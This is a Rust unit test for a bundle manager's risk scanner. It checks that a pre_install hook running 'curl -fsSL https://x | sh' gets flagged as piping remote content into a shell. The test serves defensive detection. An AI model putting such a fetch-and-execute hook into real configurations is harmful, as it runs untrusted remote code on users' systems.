// SPDX-FileCopyrightText: 2025 Jason Pena <jasonpena@awkless.com>
// SPDX-License-Identifier: MIT

use crate::Sandbox;

use anyhow::Result;
use gdf::risk::scan;
use indoc::indoc;
use pretty_assertions::assert_eq;
use sealed_test::prelude::*;

#[sealed_test]
fn curl_pipe_in_pre_install_is_flagged() -> Result<()> {
    let sandbox = Sandbox::new()?;
    sandbox.write_bundle(
        "rust",
        indoc! {r#"
            name: rust
            hooks:
              pre_install: ["curl -fsSL https://x | sh"]
              post_link: ["echo done"]
        "#},
    )?;
    let bundles = sandbox.bundles()?;

    let findings = scan(bundles.values());
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].reason, "pipes remote content directly into a shell");
    assert_eq!(findings[0].location, "hooks.pre_install");
    assert_eq!(findings[0].app, "rust");

    Ok(())
}
